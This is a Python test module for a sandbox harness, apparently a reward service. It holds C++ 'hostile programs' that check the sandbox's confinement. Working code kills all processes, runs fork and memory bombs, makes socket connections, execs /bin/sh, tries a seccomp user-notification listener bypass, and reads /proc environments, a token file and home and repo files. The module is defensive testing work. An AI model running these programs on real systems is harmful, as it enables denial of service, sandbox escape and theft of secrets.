"""The hostile families again in C++: a compiled program is machine code, not an interpreter.

Each program is built by the sandbox (`Program("cpp", ...)`) and run under
the runs' confinement; it prints a line starting with `ACHIEVED` when an
attack step worked, as the Python programs do (`hostile_programs`), and
the harness makes the same checks around it. The constants of one run come
first as C++ (`cpp_prelude`).
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass

from reward_service.sandbox.confine import EXEC_FD
from tests.sandbox.harness.hostile_programs import ERR, MEM, OK, TIME, Hostile, Kind, Target


def cpp_prelude(target: Target) -> str:
    """The run's targets as C++ constants (JSON strings are valid C++ string literals here)."""
    text = {
        "RUN_ID": target.run_id,
        "UNIX_NAME": target.unix_name,
        "TOKEN_PATH": target.token_path,
        "HOME_DIR": target.home,
        "REPO_DIR": target.repo,
    }
    numbers = {
        "SERVICE_PORT": target.service_port,
        "TCP_PORT": target.tcp_port,
        "UDP_PORT": target.udp_port,
        "EXEC_FD": EXEC_FD,
    }
    lines = [f"static const char *{k} = {json.dumps(v)};" for k, v in text.items()]
    lines += [f"static const int {k} = {v};" for k, v in numbers.items()]
    return _HEADERS + "\n".join(lines) + "\n"


_HEADERS = """\
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <string>
#include <vector>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
"""


@dataclass(frozen=True)
class NativeHostile(Hostile):
    """A hostile program in C++."""

    language: str = "cpp"

    def source(self, target: Target) -> str:
        return cpp_prelude(target) + textwrap.dedent(self.body)


def _n(name: str, aim: str, body: str, *kinds: Kind, **extra: object) -> NativeHostile:
    return NativeHostile(name, aim, body, frozenset(kinds), **extra)  # type: ignore[arg-type]


NATIVE: tuple[NativeHostile, ...] = (
    _n(
        "cpp_kill_all",
        "kill(-1, SIGKILL), its parent, PID 1 and its parent's group, from native code",
        """\
        int main() {
            int hits = 0;
            hits += kill(-1, SIGKILL) == 0;
            hits += kill(getppid(), SIGKILL) == 0;
            hits += kill(1, SIGKILL) == 0;
            hits += kill(-getpgid(getppid()), SIGKILL) == 0;
            hits += syscall(SYS_tgkill, getppid(), getppid(), SIGKILL) == 0;
            if (hits) std::printf("ACHIEVED %d signals sent\\n", hits);
            return 0;
        }
        """,
        OK,
        ERR,
    ),
    _n(
        "cpp_fork_bomb",
        "fork() (glibc's clone), the raw fork and clone calls in a loop, each child holding on",
        """\
        static pid_t raw_fork() {
        #ifdef SYS_fork
            return (pid_t)syscall(SYS_fork);
        #else
            return (pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
        #endif
        }
        int main() {
            int made = 0;
            for (int i = 0; i < 20000 && made < 2000; i++) {
                pid_t pid = i % 3 == 0   ? fork()
                            : i % 3 == 1 ? (pid_t)syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0)
                                         : raw_fork();
                if (pid == 0) { sleep(30); _exit(0); }
                if (pid > 0) made++;
            }
            if (made) std::printf("ACHIEVED started %d processes\\n", made);
            return 0;
        }
        """,
        OK,
        ERR,
        TIME,
        MEM,
        gate="fork",
    ),
    _n(
        "cpp_memory_bomb",
        "new[] and touch 16 MiB blocks without end",
        """\
        int main() {
            std::vector<char *> held;
            for (;;) {
                char *block = new char[16 << 20];
                std::memset(block, 1, 16 << 20);
                held.push_back(block);
                if (held.size() >= 128) {
                    std::printf("ACHIEVED held %zu MiB\\n", held.size() * 16);
                    return 0;
                }
            }
        }
        """,
        MEM,
    ),
    _n(
        "cpp_network",
        "TCP to the service and a listener, UDP, an abstract unix socket, by raw syscalls too",
        """\
        static void tcp(int port) {
            int fd = socket(AF_INET, SOCK_STREAM, 0);
            if (fd < 0) { std::printf("socket %s\\n", std::strerror(errno)); return; }
            sockaddr_in to{}; to.sin_family = AF_INET; to.sin_port = htons(port);
            to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
            if (connect(fd, (sockaddr *)&to, sizeof to) == 0)
                std::printf("ACHIEVED connected to port %d\\n", port);
            close(fd);
        }
        int main() {
            tcp(SERVICE_PORT);
            tcp(TCP_PORT);
            int udp = (int)syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0);
            if (udp >= 0) {
                sockaddr_in to{}; to.sin_family = AF_INET; to.sin_port = htons(UDP_PORT);
                to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
                if (sendto(udp, "x", 1, 0, (sockaddr *)&to, sizeof to) == 1)
                    std::printf("ACHIEVED sent a datagram\\n");
            }
            int unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
            if (unix_fd >= 0) {
                sockaddr_un to{}; to.sun_family = AF_UNIX;
                std::strncpy(to.sun_path + 1, UNIX_NAME, sizeof to.sun_path - 2);
                socklen_t size = sizeof(sa_family_t) + 1 + std::strlen(UNIX_NAME);
                if (connect(unix_fd, (sockaddr *)&to, size) == 0)
                    std::printf("ACHIEVED reached the abstract socket\\n");
            }
            return 0;
        }
        """,
        OK,
        ERR,
    ),
    _n(
        "cpp_exec_shell",
        "exec a shell: by path, by the exec descriptor's number with a path, by a descriptor",
        """\
        int main() {
            char sh[] = "/bin/sh", c[] = "-c", say[] = "echo ACHIEVED exec ran a shell";
            char *argv[] = {sh, c, say, nullptr}, *envp[] = {nullptr};
            execve(sh, argv, envp);
            syscall(SYS_execveat, EXEC_FD, sh, argv, envp, AT_EMPTY_PATH);
            int fd = open(sh, O_PATH);
            syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
            std::printf("every exec refused: %s\\n", std::strerror(errno));
            return 0;
        }
        """,
        OK,
        ERR,
    ),
    _n(
        "cpp_exec_own_listener",
        'a seccomp listener of its own that lets its own execveat(EXEC_FD, "/bin/sh") go on',
        """\
        #include <cstddef>
        #include <linux/filter.h>
        #include <linux/seccomp.h>
        #include <pthread.h>
        #include <sys/ioctl.h>
        static int listener = -1;
        static void *answer(void *) {
            for (;;) {
                seccomp_notif call; seccomp_notif_resp reply;
                std::memset(&call, 0, sizeof call);
                if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) != 0) return nullptr;
                std::memset(&reply, 0, sizeof reply);
                reply.id = call.id;
                reply.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
                ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &reply);
            }
        }
        int main() {
            sock_filter code[] = {
                BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_execveat, 0, 1),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
            };
            sock_fprog program = {4, code};
            listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                                    SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
            std::printf("listener %d %s\\n", listener, std::strerror(errno));
            pthread_t thread;
            if (listener >= 0) pthread_create(&thread, nullptr, answer, nullptr);
            char sh[] = "/bin/sh", c[] = "-c", say[] = "echo ACHIEVED own listener";
            char *argv[] = {sh, c, say, nullptr}, *envp[] = {nullptr};
            syscall(SYS_execveat, EXEC_FD, sh, argv, envp, AT_EMPTY_PATH);
            std::printf("exec refused: %s\\n", std::strerror(errno));
            return 0;
        }
        """,
        OK,
        ERR,
    ),
    _n(
        "cpp_read_secrets",
        "read every /proc/*/environ, cmdline and fd, the token, and files of the home and repo",
        """\
        static std::string slurp(const std::string &path) {
            int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK);
            if (fd < 0) return "";
            char buffer[8192];
            ssize_t n = read(fd, buffer, sizeof buffer);
            close(fd);
            return n > 0 ? std::string(buffer, n) : "";
        }
        int main() {
            std::string found;
            std::vector<std::string> paths = {TOKEN_PATH, "/proc/self/environ"};
            if (DIR *proc = opendir("/proc")) {
                while (dirent *entry = readdir(proc)) {
                    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
                    std::string pid = std::string("/proc/") + entry->d_name;
                    paths.push_back(pid + "/environ");
                    paths.push_back(pid + "/cmdline");
                    for (int fd = 0; fd < 12; fd++)
                        paths.push_back(pid + "/fd/" + std::to_string(fd));
                }
                closedir(proc);
            }
            for (const char *dir : {HOME_DIR, REPO_DIR}) {
                if (DIR *d = opendir(dir)) {
                    while (dirent *entry = readdir(d))
                        paths.push_back(std::string(dir) + "/" + entry->d_name);
                    closedir(d);
                }
            }
            int read_any = 0;
            for (const auto &path : paths) {
                std::string data = slurp(path);
                if (data.empty()) continue;
                read_any++;
                for (char &ch : data) if (ch == 0) ch = ' ';
                if (data.find("canary") != std::string::npos)
                    found += path + ": " + data.substr(0, 200) + "\\n";
            }
            std::printf("read %d of %zu\\n%s", read_any, paths.size(), found.c_str());
            return 0;
        }
        """,
        OK,
        ERR,
        output_bytes=1 << 20,
    ),
)
"""The C++ programs of the hostile suite, by family: signals, processes, memory, network,
exec (a shell; a shell through a listener of the program's own), secrets."""
